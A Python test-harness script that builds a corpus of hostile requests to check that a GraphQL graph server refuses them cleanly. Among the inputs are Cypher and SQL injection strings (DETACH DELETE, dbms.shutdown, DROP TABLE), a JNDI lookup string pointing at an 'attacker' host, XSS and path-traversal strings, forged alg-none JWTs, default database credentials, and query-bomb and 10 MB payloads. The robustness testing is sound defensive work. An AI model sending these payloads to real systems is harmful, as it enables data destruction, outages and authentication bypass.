"""Writes src/bench/ops/hostile.jsonl, the hostile corpus: one request a line, each of which the server must answer
within a second with a clear error (a GraphQL error with extensions.code, or a 4xx with a JSON body), never a 5xx,
and without changing the graph. Run it again after changing it: python3 src/bench/ops/hostile_corpus.py

A line: {"name", "path", "contentType" (null: none sent), "headers", "body" (text) or "repeat" ({"head", "unit",
"count", "tail"}: a body built at replay time, for the 10 MB ones), "expect": "error" (must be refused) or "any"
(may also be answered, e.g. a filter on an injection string that matches nothing)}."""
import base64
import json
import os

OUT = os.path.join(os.path.dirname(__file__), "hostile.jsonl")
corpus = []


def add(name, body=None, expect="error", path="/graphql", content_type="application/json", headers=None,
        repeat=None):
    entry = {"name": name, "path": path, "contentType": content_type, "headers": headers or {}, "expect": expect}
    if repeat:
        entry["repeat"] = repeat
    else:
        entry["body"] = body
    corpus.append(entry)


def gql(query, variables=None, **extra):
    body = {"query": query}
    if variables is not None:
        body["variables"] = variables
    body.update(extra)
    return json.dumps(body)


# Syntax garbage
for i, garbage in enumerate(["{", "}", "{{{{", "}}}}", "query {", "mutation", "{ states { name }", "{ states { name } }}",
                             "{ states(first: ) { name } }", "{ states(where: {name: }) { name } }", "query Q($x: ) { states { name } }",
                             "{ 'states' }", "{ states { name } } garbage", "@@@@", "\u0000\u0001\u0002", "{ states { \u00e9\u00e8 } }",
                             "\ud83d\ude00 { states }", "{ states { name ... } }", "fragment F on State { name }", "{ ... on }",
                             "subscription { states { name } }", "{ __schema { types { name } } } { }", "query query query",
                             "{ states(first: 1 first: 2) { name } }", "{ states { name } } query { states { name } }",
                             "{ 12345 }", "{ states(first: \"\"\"unterminated) { name } }", "\"\"\"", "#only a comment",
                             "{ states(where: {name: {eq: \"a}}) { name } }", "{ a" + "(" * 40 + " }", "{ states { name: } }"]):
    add(f"syntax garbage {i}", gql(garbage))
add("empty query", gql(""))
add("whitespace query", gql("   \n\t  "))
add("unknown root field", gql("{ nothingHere { id } }"))
add("unknown argument", gql("{ states(bogus: 1) { name } }"))
add("two anonymous operations", gql("{ states { name } } { persons { name } }"))
add("unknown operationName", gql("query A { states { name } }", operationName="B"))

# Depth
def nested(depth):
    return "{ delegations { " + "members { memberOf { " * (depth // 2) + "name" + " } }" * (depth // 2) + " } }"
for depth in (20, 50, 200, 2000):
    add(f"selection depth {depth}", gql(nested(depth)))
for depth in (50, 200, 2000):
    add(f"where nesting depth {depth}", gql("{ states(where: " + "{AND: [" * depth + "{}" + "]}" * depth + ") { name } }"))
    add(f"list nesting depth {depth}", gql("{ entity(id: " + "[" * depth + "\"x\"" + "]" * depth + ") { id } }"))
    # Written out as text: too deep for Python's own JSON encoder.
    add(f"variable nesting depth {depth}", "{\"query\": \"query Q($w: StateWhere) { states(where: $w) { name } }\", "
        "\"variables\": {\"w\": " + "{\"AND\": [" * depth + "{}" + "]}" * depth + "}}")

# Alias and fragment bombs
for n in (31, 100, 1000, 5000):
    add(f"{n} aliases", gql("{ " + " ".join(f"a{i}: states {{ name }}" for i in range(n)) + " }"))
add("aliased expensive fields", gql("{ " + " ".join(f"p{i}: path(from: \"russia\", to: \"ukraine\", maxHops: 6) {{ length }}"
                                              for i in range(40)) + " }"))
laughs = "query { states { ...F0 } } " + " ".join(
    f"fragment F{i} on State {{ ...F{i + 1} ...F{i + 1} }}" for i in range(30)) + " fragment F30 on State { name }"
add("fragment bomb (2^30 spreads)", gql(laughs))
add("cyclic fragments", gql("query { states { ...A } } fragment A on State { ...B } fragment B on State { ...A }"))
add("self-referencing fragment", gql("query { states { ...A } } fragment A on State { name ...A }"))
add("unknown fragment", gql("query { states { ...Nope } }"))
add("fragment on wrong type", gql("query { states { ...P } } fragment P on Person { name }"))
add("1000 fragments", gql("query { states { " + " ".join(f"...F{i}" for i in range(1000)) + " } } "
                          + " ".join(f"fragment F{i} on State {{ name }}" for i in range(1000))))
add("fields wide 3000", gql("{ states { " + "name " * 3000 + "} }"))

# Directives
for n in (2, 100, 1000, 10000):
    add(f"@include repeated {n} times", gql("{ states @include(if: true)" * 1 + " @include(if: true)" * (n - 1)
                                            + " { name } }"))
add("@skip and @include repeated", gql("{ states " + "@skip(if: false) @include(if: true) " * 500 + "{ name } }"))
add("unknown directive", gql("{ states @bogus { name } }"))
add("directive with wrong argument", gql("{ states @include(if: \"yes\") { name } }"))
add("directive on operation 1000 times", gql("query Q " + "@deprecated " * 1000 + "{ states { name } }"))

# Big bodies
add("10 MB of padding in the query", repeat={"head": "{\"query\": \"{ states { name } }", "unit": " ",
                                            "count": 10 * 1024 * 1024, "tail": "\"}"})
add("10 MB of aliases", repeat={"head": "{\"query\": \"{ ", "unit": "a: states { name } ", "count": 550000, "tail": "}\"}"})
add("10 MB string argument", repeat={"head": "{\"query\": \"{ search(text: \\\"", "unit": "x", "count": 10 * 1024 * 1024,
                                     "tail": "\\\") { score } }\"}"})
add("10 MB of variables", repeat={"head": "{\"query\": \"{ states { name } }\", \"variables\": {\"v\": [",
                                  "unit": "1,", "count": 5 * 1024 * 1024, "tail": "1]}}"})
add("10 MB bundle of garbage", path="/bundles", repeat={"head": "{\"format\": \"accord-graph/fact-bundle@1\", \"sources\": [",
                                                        "unit": "{", "count": 10 * 1024 * 1024, "tail": "]}"})
add("10 MB bundle, unknown field", path="/bundles", repeat={"head": "{\"junk\": \"", "unit": "x",
                                                           "count": 10 * 1024 * 1024, "tail": "\"}"})

# Huge and wrong page sizes
for first in ("1000000000", "2147483647", "2147483648", "99999999999999999999", "-1", "-2147483648", "1.5",
              "[1]", "{a: 1}", "1e9", "0x10", "true"):
    add(f"states(first: {first})", gql("{ states(first: " + first + ") { name } }"))
    add(f"personsConnection(first: {first})", gql("{ personsConnection(first: " + first + ") { totalCount } }"))
add("first as a string", gql("{ states(first: \"10\") { name } }"), expect="any")
add("first null (the default page)", gql("{ states(first: null) { name } }"), expect="any")
add("offset huge", gql("{ states(offset: 2147483647, first: 500) { name } }"), expect="any")
add("offset negative", gql("{ states(offset: -5) { name } }"))
add("maxHops huge", gql("{ path(from: \"russia\", to: \"ukraine\", maxHops: 1000000) { length } }"))
add("search first huge", gql("{ search(text: \"kyiv\", first: 100000000) { score } }"))

# Variables of wrong types and shapes
Q_FIRST = "query Q($n: Int) { states(first: $n) { name } }"
for value in ("abc", 1.5, [1], {"a": 1}, True, 10 ** 12, -(10 ** 12)):
    add(f"$n = {json.dumps(value)[:20]}", gql(Q_FIRST, {"n": value}))
Q_ID = "query Q($id: ID!) { entity(id: $id) { id } }"
for value in (None, 1.5, [1, 2], {"id": "russia"}, True):
    add(f"$id = {json.dumps(value)[:20]}", gql(Q_ID, {"id": value}))
add("required variable missing", gql(Q_ID, {}))
add("variables is an array", json.dumps({"query": Q_ID, "variables": ["russia"]}))
add("variables is a string", json.dumps({"query": Q_ID, "variables": "{\"id\": \"russia\"}"}))
add("variables is a number", json.dumps({"query": Q_ID, "variables": 42}))
add("query is a number", json.dumps({"query": 42}))
add("query is an object", json.dumps({"query": {"states": "name"}}))
add("query is null", json.dumps({"query": None}))
add("no query", json.dumps({"variables": {}}))
add("operationName is a number", json.dumps({"query": "{ states { name } }", "operationName": 5}))
add("where of the wrong kind", gql("query Q($w: StateWhere) { states(where: $w) { name } }", {"w": {"nope": 1}}))
add("where as a list", gql("query Q($w: StateWhere) { states(where: $w) { name } }", {"w": [{"name": {"eq": "x"}}]}))
add("enum given as a number", gql("{ states(orderBy: [{field: 5}]) { name } }"))
add("unknown enum value", gql("{ states(orderBy: [{field: SHOE_SIZE}]) { name } }"))
add("date malformed", gql("{ talks(where: {startDate: {after: \"2026-13-45\"}}) { name } }"))
add("asOf malformed", gql("{ delegations { members(asOf: \"yesterday\") { name } } }"))
add("cursor forged", gql("{ personsConnection(first: 2, after: \"not-a-cursor\") { totalCount } }"))
add("cursor of base64 garbage", gql("{ personsConnection(first: 2, after: \"" + base64.b64encode(b"\x00\xff{]").decode()
                                    + "\") { totalCount } }"))
add("variable declared twice", gql("query Q($a: Int, $a: Int) { states(first: $a) { name } }", {"a": 1}))
add("undeclared variable", gql("{ states(first: $nope) { name } }"))

# Batches
add("batch of one", json.dumps([{"query": "{ states { name } }"}]))
add("batch of 100", json.dumps([{"query": "{ states { name } }"}] * 100))
add("empty batch", "[]")
add("batch of numbers", "[1, 2, 3]")
add("batch of batches", json.dumps([[{"query": "{ states { name } }"}]]))
add("JSON string body", json.dumps("{ states { name } }"))
add("JSON number body", "42")
add("JSON null body", "null")
add("JSON true body", "true")
add("empty body", "")
add("truncated JSON", "{\"query\": \"{ states { name } }\"")
add("JSON with trailing garbage", "{\"query\": \"{ states { name } }\"} xyz")
add("duplicate keys", "{\"query\": \"{ nope }\", \"query\": 5}")

# Injection strings in every argument
INJECTIONS = ["' OR 1=1 --", "\") MATCH (n) DETACH DELETE n //", "}) DETACH DELETE n RETURN 1 //",
              "`) CALL dbms.shutdown() //", "${jndi:ldap://attacker/x}", "<script>alert(1)</script>", "../../etc/passwd",
              "*", "name:* OR id:*", "\\", "\"", "%00", "\u0000", "a" * 5000, "\u202e\u0000\ufeff", ".*", "$where",
              "{{7*7}}", "; DROP TABLE nodes;", "\\u0000\\\"}"]
ARGUMENT_PATHS = [
    ("entity id", "query Q($v: ID!) { entity(id: $v) { id } }", "any"),
    ("persons where id eq", "query Q($v: ID) { persons(where: {id: {eq: $v}}) { id } }", "any"),
    ("states where name contains", "query Q($v: String) { states(where: {name: {contains: $v}}) { id } }", "any"),
    ("talks where location startsWith", "query Q($v: String) { talks(where: {location: {startsWith: $v}}) { id } }", "any"),
    ("search text", "query Q($v: String!) { search(text: $v) { score } }", "any"),
    ("path from", "query Q($v: ID!) { path(from: $v, to: \"russia\") { length } }", "any"),
    ("cursor after", "query Q($v: String) { personsConnection(first: 1, after: $v) { totalCount } }", "any"),
    ("deleteEntity id", "mutation Q($v: ID!) { deleteEntity(id: $v) { id } }", "error"),
    ("upsertPerson id without sources", "mutation Q($v: ID!) { upsertPerson(input: {id: $v, name: \"x\"}) { id } }", "error"),
    ("link from", "mutation Q($v: ID!) { link(input: {type: MEMBER_OF, from: $v, to: \"no-such\", sources: [\"no-such\"]}) "
                  "{ __typename } }", "error"),
]
for label, query, expect in ARGUMENT_PATHS:
    for i, value in enumerate(INJECTIONS):
        add(f"injection {i} in {label}", gql(query, {"v": value}), expect=expect)

# Tokens: forged, expired, alg none, garbage; on a write that would be refused anyway, so the graph never changes
def jwt(header, payload, signature="c2ln"):
    enc = lambda d: base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")
    return f"{enc(header)}.{enc(payload)}.{signature}"
REFUSED_WRITE = gql("mutation { upsertPerson(input: {id: \"token-probe\", name: \"x\"}) { id } }")
TOKENS = {
    "alg none": jwt({"alg": "none", "typ": "JWT"}, {"sub": "mallory", "groups": ["editor"]}, ""),
    "forged HS256": jwt({"alg": "HS256", "typ": "JWT"}, {"sub": "mallory", "groups": ["editor"]}),
    "expired RS256": jwt({"alg": "RS256", "typ": "JWT"}, {"sub": "editor", "exp": 1000000000, "groups": ["editor"]}),
    "not yet valid": jwt({"alg": "RS256"}, {"sub": "editor", "nbf": 4102444800}),
    "garbage": "not.a.token",
    "empty": "",
    "two dots only": "..",
    "huge": "A" * 7000,
}
for label, token in TOKENS.items():
    add(f"token {label}", REFUSED_WRITE, headers={"Authorization": f"Bearer {token}"})
add("Basic credentials", REFUSED_WRITE, headers={"Authorization": "Basic " + base64.b64encode(b"neo4j:neo4j").decode()})
add("Bearer without token", REFUSED_WRITE, headers={"Authorization": "Bearer"})
add("two Authorization values", REFUSED_WRITE, headers={"Authorization": "Bearer a, Bearer b"})

# Content types
for ct in ("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
           "application/json; charset=utf-16", "image/png", "application/graphql"):
    add(f"content type {ct}", gql("{ nope }"), content_type=ct)
add("no content type", gql("{ nope }"), content_type=None)
add("form body", "query=%7B+states+%7B+name+%7D+%7D", content_type="application/x-www-form-urlencoded")
add("XML body", "<query>{ states { name } }</query>", content_type="application/xml")
add("bundle as text/plain", "{\"format\": \"x\"}", path="/bundles", content_type="text/plain")
add("bundle not JSON", "not json", path="/bundles")
add("bundle wrong format", json.dumps({"format": "evil/1", "sources": [], "entities": [], "relationships": []}),
    path="/bundles")
add("bundle as array", "[]", path="/bundles")
add("bundle with injection id", json.dumps({"format": "accord-graph/fact-bundle@1", "sources": [],
                                            "entities": [{"type": "Person", "id": "x\") DETACH DELETE n //",
                                                          "name": "x", "sources": ["no-such-source"]}],
                                            "relationships": []}), path="/bundles")
add("bundle with unknown type", json.dumps({"format": "accord-graph/fact-bundle@1", "sources": [],
                                            "entities": [{"type": "Admin", "id": "x", "name": "x", "sources": []}],
                                            "relationships": []}), path="/bundles")

with open(OUT, "w") as out:
    for entry in corpus:
        out.write(json.dumps(entry, ensure_ascii=True) + "\n")
print(f"{len(corpus)} requests written to {OUT}")
